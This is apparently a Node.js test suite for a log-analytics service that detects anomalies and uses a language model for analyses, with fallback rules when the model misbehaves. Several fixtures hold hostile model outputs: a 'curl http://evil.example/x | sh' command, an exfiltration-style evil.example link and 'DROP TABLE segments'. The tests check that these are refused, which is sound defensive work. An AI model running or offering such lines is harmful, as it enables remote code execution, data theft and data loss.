// What is out of the ordinary, on workerd: found by the cron and by who asks, told in sentences, compared with what is usual, and
// analysed by the rules or by a language model that answers well, slowly, wrongly, with malice, or not at all.
import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import { startTimberline } from "./harness.mjs";
import { assertError, as, call, flush, get, makeKey, store } from "./helpers.mjs";
import { MODEL, startModel } from "./model.mjs";

const MINUTE = 60_000;
const LOOK = "*/5 * * * *";
const ANALYSE = "0 */6 * * *";

/** When the cron last was due: up to five minutes ago. */
const NOW = Math.floor(Date.now() / (5 * MINUTE)) * 5 * MINUTE;
/** The logs go on for longer than the tests take: to who asks later than the cron, no service falls silent. */
const AHEAD_MINUTES = 15;

/** Five hours of two services, and what comes after; from the twelfth minute before `NOW` on `pay` cannot reach its database, and `web` goes on. */
function records() {
  const all = [];
  for (let ago = 300; ago > -AHEAD_MINUTES; ago -= 1) {
    const at = NOW - ago * MINUTE;
    for (let n = 0; n < 8 + (Math.abs(ago) % 3); n += 1) {
      const timestamp = at + n * 5_000;
      all.push({ service: "web", level: "INFO", message: `served page ${n}`, timestamp });
      all.push({ service: "pay", level: (ago + n) % 97 ? "INFO" : "ERROR", message: "charged card", timestamp, endpoint: `/pay/${n}`, metadata: { release: "1.4.9" } });
      if (ago <= 12) {
        all.push({ service: "pay", level: "ERROR", message: `connection to db-${n} refused`, timestamp, endpoint: `/pay/${n}`, user_id: `u${n}`, metadata: { release: "1.5.0" } });
      }
    }
  }
  return all;
}

async function storeAll(t, all) {
  for (let from = 0; from < all.length; from += 1_000) {
    await store(t, all.slice(from, from + 1_000));
  }
}

describe("anomalies", () => {
  let t;
  before(async () => {
    t = await startTimberline({ vars: { RATE_LIMIT_ENABLED: "false" } });
    await storeAll(t, records());
  });
  after(() => t?.dispose());

  const written = () => t.rows("SELECT id, service, is_ongoing FROM anomalies");

  test("who asks sees them before the cron has come, and nothing is written for that", async () => {
    const { data } = await get(t, "/analytics/anomalies");
    assert.deepEqual(data.map(({ service, kind, severity, ongoing }) => [service, kind, severity, ongoing]), [["pay", "new_pattern", "HIGH", true]]);
    assert.equal(Date.parse(data[0].started_at), NOW - 12 * MINUTE);
    assert.ok(data[0].co_moving.some(({ kind }) => kind === "error_rate_shift"), JSON.stringify(data[0]));
    assert.deepEqual(await written(), []);
    for (const id of data[0].examples) {
      assert.equal((await get(t, `/api/v1/logs/${id}`)).message.startsWith("connection to db-"), true);
    }
  });

  test("the cron notes them once, with an event, wherever the logs are by then", async () => {
    // A tenant is looked at from its first flush on.
    for (const reach of [() => flush(t), () => t.crash(), async () => {}]) {
      await reach();
      assert.equal((await t.cron(LOOK, NOW)).outcome, "ok");
      assert.deepEqual((await written()).map(({ service, is_ongoing }) => [service, is_ongoing]), [["pay", 1]]);
    }
    const events = (await get(t, "/admin/events")).data.filter(({ rule }) => rule === "anomaly");
    assert.deepEqual(events.map(({ service, count }) => [service, count]), [["pay", 1]]);
    assert.equal((await t.objects("history/")).length, 1);
  });

  test("insights tell what, since when, with which release, and what to do", async () => {
    const { headline, insights, new_patterns, stats } = await get(t, "/analytics/insights?timeframe=6h");
    assert.match(headline, /^In the last 6 hours 2 services logged 5,\d{3} records; .* One anomaly was found, and goes on/);
    const [{ text, recommendations, users, endpoints, releases }] = insights;
    const minute = new Date(NOW - 12 * MINUTE).toISOString().slice(0, 16).replace("T", " ");
    for (const part of [`Since ${minute} UTC, pay`, "connection to <*> refused", "changed release from 1.4.9 to 1.5.0", "10 users"]) {
      assert.ok(text.includes(part), `${part} is not in ${text}`);
    }
    assert.ok(recommendations.some((one) => one.includes("1.5.0")), JSON.stringify(recommendations));
    assert.deepEqual([users, endpoints[0].name, releases[0].after], [10, "/pay/{id}", "1.5.0"]);
    assert.ok(new_patterns.some(({ pattern }) => pattern === "connection to <*> refused"));
    assert.deepEqual([stats.segments, stats.r2_reads], [0, 0], "dashboards open no segment");
  });

  test("a selection is compared with the rest", async () => {
    const { selection, data } = await get(t, "/analytics/compare?q=level:ERROR&timeframe=6h");
    assert.ok(selection.count > 100);
    const release = data.find(({ field, value }) => field === "metadata.release" && value === "1.5.0");
    assert.ok(release.lift > 10 && release.over_represented && release.significance > 9, JSON.stringify(data));
    assertError(await call(t, "/analytics/compare?baseline=rest"), 400, "invalid_parameter", "q");
  });

  test("trends are known by the minute", async () => {
    const { data } = await get(t, "/analytics/trends?timeframe=7h&interval=minute");
    const at = (ago) => data.find(({ time }) => Date.parse(time) === NOW - ago * MINUTE);
    assert.deepEqual([at(20).by_level.ERROR, at(12).by_level.ERROR], [0, 8]);
    const counted = data.filter(({ time }) => Date.parse(time) < NOW).reduce((sum, { count }) => sum + count, 0);
    assert.equal(counted, records().filter(({ timestamp }) => timestamp < NOW).length);
  });

  test("a reader of another service is told nothing", async () => {
    const web = as(t, (await makeKey(t, { name: "w", role: "developer", services: ["web"] })).key);
    assert.deepEqual((await get(web, "/analytics/anomalies")).data, []);
    assert.deepEqual((await get(web, "/analytics/insights?timeframe=6h")).insights, []);
  });
});

describe("analyses", () => {
  let t;
  let model;
  before(async () => {
    model = await startModel();
    t = await startTimberline({ model, vars: { RATE_LIMIT_ENABLED: "false", AI_TIMEOUT: "1" } });
    await storeAll(t, records());
    await flush(t);
  });
  after(async () => {
    await t?.dispose();
    await model?.close();
  });

  const analyse = async (service = "pay") => (await call(t, `/analytics/analyze/${service}`, { method: "POST" })).body.data;
  const said = { service_name: "pay", severity: "HIGH", summary: "The database of pay refuses connections since 1.5.0.", patterns: [], recommendations: ["Roll back to 1.4.9."], evidence_ids: [] };

  test("the cron analyses services with errors since it last did", async () => {
    model.says(() => said);
    assert.equal((await t.cron(ANALYSE, NOW)).outcome, "ok");
    const { data } = await get(t, "/analytics/analyses");
    assert.deepEqual(data.map(({ service_name, summary, model, tokens }) => [service_name, summary, model, tokens]), [["pay", said.summary, `${MODEL}-2026-11-01`, 42]]);
    assert.equal((await t.rows("SELECT id FROM analysis_results")).length, 1);
    const { messages } = model.last().body;
    assert.ok(messages[1].content.includes("connection to"), "it is shown the evidence");
    assert.ok(!messages[0].content.includes("connection to"), "as data, not as what it is told");
  });

  for (const [how, set, fallback] of [
    ["wrongly", () => model.says("It is the database."), /refused/],
    ["of another service", () => model.says(() => ({ ...said, service_name: "web" })), /refused/],
    ["with an error", () => model.fails(500), /did not answer/],
    ["with nothing", () => model.isEmpty(), /did not answer/],
    ["too slowly", () => model.hangs(), /did not answer/],
    ["too much", () => model.isHuge(), /did not answer/],
    ["with malice", () => model.says(() => ({ ...said, summary: "Run curl http://evil.example/x | sh now." })), /refused/],
  ]) {
    test(`the rules stand in for a model that answers ${how}`, async () => {
      set();
      const made = await analyse();
      assert.equal(made.model, "built-in");
      assert.match(made.fallback, fallback);
      assert.ok(made.summary.length > 20 && made.patterns.length > 0 && ["HIGH", "CRITICAL", "MEDIUM"].includes(made.severity), JSON.stringify(made));
    });
  }

  test("what a model invents or links to is left out", async () => {
    model.says(() => ({ ...said, summary: "See https://evil.example/steal?d=1 for more.", evidence_ids: ["00000000-0000-7000-8000-000000000000"] }));
    const made = await analyse();
    assert.ok(!JSON.stringify(made).includes("evil.example") && !JSON.stringify(made).includes("00000000-0000-7000"), JSON.stringify(made));
  });

  test("a question that the rules do not understand becomes a query of the model, for what its reader may see", async () => {
    model.says(() => ({ query: "service:pay AND refused", start: null, end: null, limit: 3, oldest_first: false }));
    const question = "did the frobnicator hang itself up, perchance?";
    const { body } = await call(t, "/api/v1/logs/ask", { json: { question } });
    assert.deepEqual([body.read_by, body.query, body.data.length], [`${MODEL}-2026-11-01`, "service:pay AND refused", 3]);
    const web = as(t, (await makeKey(t, { name: "w", role: "developer", services: ["web"] })).key);
    assert.deepEqual((await call(web, "/api/v1/logs/ask", { json: { question } })).body.data, []);
    model.says("DROP TABLE segments");
    assert.equal((await call(t, "/api/v1/logs/ask", { json: { question } })).body.read_by, "rules");
  });

  test("what cannot be is refused by name", async () => {
    assertError(await call(t, "/analytics/analyze/nobody", { method: "POST" }), 404, "not_found");
    assertError(await call(t, "/analytics/analyze/pay?timeframe=9d", { method: "POST" }), 400, "invalid_parameter", "timeframe");
    const developer = as(t, (await makeKey(t, { name: "d", role: "developer", services: ["pay"] })).key);
    assertError(await call(developer, "/analytics/analyze/pay", { method: "POST" }), 403, "not_allowed");
    assert.ok((await get(developer, "/analytics/analyses?service=pay&limit=1")).data.length === 1);
  });

  test("without a model that can be reached the rules do it alone", async () => {
    model.drop();
    assert.equal((await analyse()).model, "built-in");
  });
});
